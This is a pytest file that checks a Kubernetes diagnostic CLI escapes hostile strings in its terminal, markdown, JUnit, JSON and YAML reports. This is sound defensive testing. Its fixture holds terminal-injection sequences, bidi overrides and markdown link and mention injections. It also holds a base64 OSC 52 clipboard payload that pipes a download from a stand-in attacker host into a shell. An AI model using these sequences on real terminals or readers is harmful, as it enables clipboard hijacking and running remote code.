"""Hostile text in every string of a report: no renderer lets a control character, a bidi override
or a character XML cannot hold through; markdown cells stay cells, mention no one and link
nowhere; JUnit parses with a strict parser (issue 26, "Terminal and report injection").

The reports are built from the model's types (msgspec.inspect): every string field, every list
item, every dict key and value of Report, PendingReport and CheckReport holds HOSTILE, and a
list of a union of structs holds one of each.
"""

from __future__ import annotations

import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import msgspec.inspect as mi
import pytest
import yaml
from rich.console import Console
from typer.testing import CliRunner

from podwhy.cli import app
from podwhy.errors import one_line
from podwhy.report.model import CheckReport, PendingReport, Report
from podwhy.report.render import markdown
from podwhy.report.render.check import render_check
from podwhy.report.render.explain import render_table
from podwhy.report.render.junit import junit_xml
from podwhy.report.render.pending import render_pending
from podwhy.report.safe import made_safe, safe_text
from podwhy.verdict import Verdict

# OSC 52 (sets the clipboard), OSC 8 (a hyperlink), CSI colour, 8-bit CSI, a bidi override and
# isolate, NUL, DEL, NEL, VT, CR, a lone surrogate, a noncharacter; then what markdown must not
# take as markup: an escaped pipe, a mention, a link, an image, a reference definition, bare URLs.
HOSTILE = (
    "n\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]8;;https://evil.example\x1b\\"
    "link\x1b]8;;\x1b\\\x1b[31mred\x9b2J\u202eevil\u2066x\u2069\x00\x7f\x85\x0b\r\ud800\ufffe"
    " \\| a|b @org/team @user [t](https://evil.example/a) ![i](https://evil.example/i.png)"
    " [r][d] [d]: https://evil.example www.evil.example user@evil.example"
)

# What no shown output may hold: C0 but newline and tab, DEL, C1, bidi controls, surrogates,
# the noncharacters XML 1.0 excludes.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]")


# The strings a Literal type fixes (the only ones left benign).
LITERALS: set[str] = set()


def _values(info: mi.Type, depth: int = 0) -> list[Any]:
    """Builtin values of type INFO: one, or one per struct of a union (every variant's fields)."""
    if isinstance(info, mi.Metadata):
        return _values(info.type, depth)
    if isinstance(info, (mi.StrType, mi.AnyType)):
        return [HOSTILE]
    if isinstance(info, mi.IntType):
        return [max(1, info.ge or 0, (info.gt or 0) + 1)]
    if isinstance(info, mi.FloatType):
        return [1.0]
    if isinstance(info, mi.BoolType):
        return [True]
    if isinstance(info, mi.NoneType):
        return [None]
    if isinstance(info, mi.LiteralType):
        LITERALS.update(v for v in info.values if isinstance(v, str))
        return [info.values[0]]
    if isinstance(info, mi.EnumType):
        return [next(iter(info.cls)).value]
    if isinstance(info, mi.ListType):
        return [_values(info.item_type, depth + 1)]
    if isinstance(info, mi.DictType):
        return [{HOSTILE: _values(info.value_type, depth + 1)[0]}]
    if isinstance(info, mi.UnionType):
        structs = [t for t in info.types if isinstance(t, mi.StructType)]
        if structs:
            return [v for t in structs for v in _values(t, depth)]
        concrete = [t for t in info.types if not isinstance(t, mi.NoneType)]
        return _values(concrete[0], depth)
    if isinstance(info, mi.StructType):
        data: dict[str, Any] = {}
        if info.tag_field is not None:
            data[info.tag_field] = info.tag
        if depth < 6:
            for field in info.fields:
                data[field.encode_name] = _values(field.type, depth + 1)[0]
        else:
            for field in info.fields:
                if field.required:
                    data[field.encode_name] = _values(field.type, depth + 1)[0]
        return [data]
    raise AssertionError(f"no hostile value for {info!r}")


def hostile(cls: type[Any]) -> Any:
    return msgspec.convert(_values(mi.type_info(cls))[0], cls)


def _console(buffer: io.StringIO, width: int) -> Console:
    return Console(file=buffer, width=width, color_system=None, highlight=False)


def _rendered(render: Callable[[Console], None], width: int) -> str:
    buffer = io.StringIO()
    render(_console(buffer, width))
    return buffer.getvalue()


REPORT = hostile(Report)
PENDING = hostile(PendingReport)
CHECK = hostile(CheckReport)


def _with_replicas(report: CheckReport, **changes: Any) -> CheckReport:
    """REPORT with its replicas changed: Pending ones (node None), inconclusive ones."""
    workload = report.workloads[0]
    placed = workload.replicas[0]
    replicas = [placed, msgspec.structs.replace(placed, **changes)]
    return msgspec.structs.replace(report, workloads=[msgspec.structs.replace(workload, replicas=replicas)])


CHECKS = {
    "placed": CHECK,
    "pending": _with_replicas(CHECK, node=None, verdict=Verdict.UNSCHEDULABLE),
    "inconclusive": _with_replicas(CHECK, verdict=Verdict.INCONCLUSIVE),
}
WIDTHS = (60, 120, 250)  # lists below NARROW_WIDTH, tables above


def _outputs() -> dict[str, str]:
    out: dict[str, str] = {}
    node = REPORT.nodes[0].name
    for width in WIDTHS:
        for wide in (False, True):
            out[f"explain {width} wide={wide}"] = _rendered(
                lambda c, wide=wide: render_table(REPORT, wide=wide, console=c, verbose=True), width
            )
            out[f"pending {width} wide={wide}"] = _rendered(
                lambda c, wide=wide: render_pending(PENDING, wide=wide, console=c), width
            )
            for case, check in CHECKS.items():
                out[f"check {case} {width} wide={wide}"] = _rendered(
                    lambda c, wide=wide, check=check: render_check(check, wide=wide, console=c), width
                )
        out[f"explain --node {width}"] = _rendered(lambda c: render_table(REPORT, node=node, console=c), width)
    out["markdown explain"] = markdown.render_explain(REPORT)
    out["markdown pending"] = markdown.render_pending(PENDING)
    for case, check in CHECKS.items():
        out[f"markdown check {case}"] = markdown.render_check(check)
        out[f"junit {case}"] = junit_xml(check).decode()
    return out


OUTPUTS = _outputs()


def test_every_string_field_is_hostile() -> None:
    """The generator reaches every string: none of the reports' strings is left benign."""
    for report in (REPORT, PENDING, CHECK):
        strings: list[str] = []

        def collect(value: Any, strings: list[str] = strings) -> None:
            if type(value) is str:
                strings.append(value)
            elif isinstance(value, msgspec.Struct):
                for field in value.__struct_fields__:
                    collect(getattr(value, field))
            elif isinstance(value, list):
                for item in value:
                    collect(item)
            elif isinstance(value, dict):
                for key, item in value.items():
                    collect(key)
                    collect(item)

        collect(report)
        assert strings.count(HOSTILE) > 20
        assert set(strings) - {HOSTILE} <= LITERALS


def test_made_safe_escapes_every_string_and_keeps_the_rest() -> None:
    safe = made_safe(REPORT)
    assert (
        safe is not REPORT
        and safe.verdict is REPORT.verdict
        and safe.nodes[0].filters[0].status is REPORT.nodes[0].filters[0].status
    )
    assert safe.pod.name == safe_text(HOSTILE) and not RAW.search(safe.pod.name)
    assert REPORT.pod.name == HOSTILE  # a copy: the report itself is left as read
    benign = made_safe(REPORT.pod.__class__(namespace="a", name="b", uid="c", phase="P", priority=0, schedulerName="s"))
    assert benign == REPORT.pod.__class__(namespace="a", name="b", uid="c", phase="P", priority=0, schedulerName="s")


def test_safe_text_is_the_error_lines_escaping_but_for_newline_and_tab() -> None:
    assert safe_text("a\x1b[2J\u202eb\x9b\r") == "a\\x1b[2J\\u202eb\\x9b\\r" == one_line("a\x1b[2J\u202eb\x9b\r")
    assert safe_text("a\nb\tc") == "a\nb\tc"
    assert one_line("a\nb\tc") == "a\\nb\\tc"


@pytest.mark.parametrize("name", sorted(OUTPUTS))
def test_no_raw_control_or_bidi_character_in_any_output(name: str) -> None:
    text = OUTPUTS[name]
    assert not RAW.search(text), repr(RAW.search(text))
    # The hostile text did reach the output, escaped: the test would see it raw.
    assert "\\x1b" in text and "\\u202e" in text and "\\x9b" in text


def _cells(line: str) -> int:
    """GitHub's split of a table row: a pipe after a backslash is text, `\\\\` is one escaped char."""
    count, i = 0, 0
    while i < len(line):
        if line[i] == "\\":
            i += 2
            continue
        count += line[i] == "|"
        i += 1
    return count


@pytest.mark.parametrize("name", sorted(name for name in OUTPUTS if name.startswith("markdown")))
def test_markdown_stays_text(name: str) -> None:
    text = OUTPUTS[name]
    lines = text.splitlines()
    assert any(line.startswith("|") for line in lines)
    columns = None
    for line in lines:
        if not line.startswith("|"):
            columns = None
            continue
        if columns is None:
            columns = _cells(line)
        assert _cells(line) == columns, line
    outside_code = re.sub(r"```+sh\n.*?\n```+", "", text, flags=re.S)
    assert not re.search(r"@(?!&#8203;)", outside_code)  # no mention, no mailto
    assert "://" not in outside_code and "www." not in outside_code  # no autolink
    # No `](`, `][` or `]:` whose `]` is not escaped: no link, image or reference definition.
    for match in re.finditer(r"\](?=[(\[:])", outside_code):
        backslashes = len(outside_code[: match.start()]) - len(outside_code[: match.start()].rstrip("\\"))
        assert backslashes % 2 == 1, outside_code[match.start() - 20 : match.start() + 20]


def test_a_cell_escapes_backslash_before_pipe() -> None:
    assert markdown.cell("\\|") == "\\\\\\|"
    assert _cells("| " + markdown.cell("a\\|b|c") + " |") == 2


@pytest.mark.parametrize("case", sorted(CHECKS))
def test_junit_is_strict_xml(case: str) -> None:
    data = junit_xml(CHECKS[case])
    root = ET.fromstring(data)  # expat: refuses what XML 1.0 does not allow, even as &#1;
    assert root.tag == "testsuites"
    assert not re.search(
        rb"[\x00-\x08\x0b\x0c\x0e-\x1f]|&#(x0*[0-8bcef]|x0*1[0-9a-f]|0*([0-8]|1[1249]|[12][0-9]|3[01]));", data
    )
    texts = [e.get("message", "") + (e.text or "") for e in root.iter() if e.tag in ("failure", "error", "system-out")]
    assert texts and all("\\x1b" in t and "\\u202e" in t for t in texts)


def _dump(path: Path) -> Path:
    """A cluster whose taint value, owner name, image, condition and event messages and an ignored
    kind are hostile."""
    node = {
        "apiVersion": "v1",
        "kind": "Node",
        "metadata": {"name": "n1"},
        "spec": {"taints": [{"key": "k", "value": HOSTILE, "effect": "NoSchedule"}]},
        "status": {"allocatable": {"cpu": "4", "memory": "8Gi", "pods": "110"}},
    }
    owner = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "rs" + HOSTILE, "uid": "x", "controller": True}
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "p", "namespace": "default", "uid": "u", "ownerReferences": [owner]},
        "spec": {"containers": [{"name": "c", "image": "img" + HOSTILE}]},
        "status": {
            "phase": "Pending",
            "conditions": [{"type": "PodScheduled", "status": "False", "reason": "Unschedulable", "message": HOSTILE}],
        },
    }
    event = {
        "apiVersion": "v1",
        "kind": "Event",
        "metadata": {"name": "e", "namespace": "default"},
        "involvedObject": {"kind": "Pod", "name": "p", "namespace": "default", "uid": "u"},
        "reason": "FailedScheduling",
        "message": HOSTILE,
    }
    odd = {"apiVersion": "v1", "kind": "Odd" + HOSTILE, "metadata": {"name": "o"}}
    # A JSON file cannot hold a lone surrogate: the dump holds the rest.
    dump = json.dumps({"apiVersion": "v1", "kind": "List", "items": [node, pod, event, odd]}, ensure_ascii=False)
    path.write_text(dump.replace("\ud800", ""))
    return path


@pytest.mark.parametrize(
    "args",
    [
        ["explain", "p", "-v"],
        ["explain", "p", "-o", "wide", "-v"],
        ["explain", "p", "--node", "n1"],
        ["explain", "p", "-o", "markdown"],
        ["pending", "-A"],
        ["pending", "-A", "-o", "markdown"],
    ],
)
def test_the_command_line_shows_nothing_raw(tmp_path: Path, args: list[str]) -> None:
    result = CliRunner().invoke(app, [*args, "--from", str(_dump(tmp_path / "dump.json"))])
    assert result.exit_code == 1, result.output
    assert not RAW.search(result.stdout), repr(RAW.search(result.stdout))
    assert not RAW.search(result.stderr), repr(RAW.search(result.stderr))
    assert "\\x1b]52" in result.stdout


@pytest.mark.parametrize(
    ("args", "load"),
    [
        (["explain", "p", "-o", "json"], json.loads),
        (["explain", "p", "-o", "yaml"], yaml.safe_load),
        (["pending", "-A", "-o", "json"], json.loads),
        (["pending", "-A", "-o", "yaml"], yaml.safe_load),
    ],
)
def test_json_and_yaml_keep_every_string_but_write_none_raw(tmp_path: Path, args: list[str], load: Any) -> None:
    """Data keeps the strings as read; a character a terminal acts on is the format's own escape
    (`\\u009b` in JSON, `"\\x9B"` in YAML), decoded back to the same string by any reader."""
    result = CliRunner().invoke(app, [*args, "--from", str(_dump(tmp_path / "dump.json"))])
    assert result.exit_code == 1, result.output
    assert not RAW.search(result.stdout.replace("\n", "").replace("\t", "")), repr(RAW.search(result.stdout))

    def strings(value: Any) -> Iterator[str]:
        if isinstance(value, str):
            yield value
        elif isinstance(value, dict):
            for key, item in value.items():
                yield from strings(key)
                yield from strings(item)
        elif isinstance(value, list):
            for item in value:
                yield from strings(item)

    assert any("\x9b2J\u202eevil\u2066x\u2069\x00\x7f\x85" in text for text in strings(load(result.stdout)))
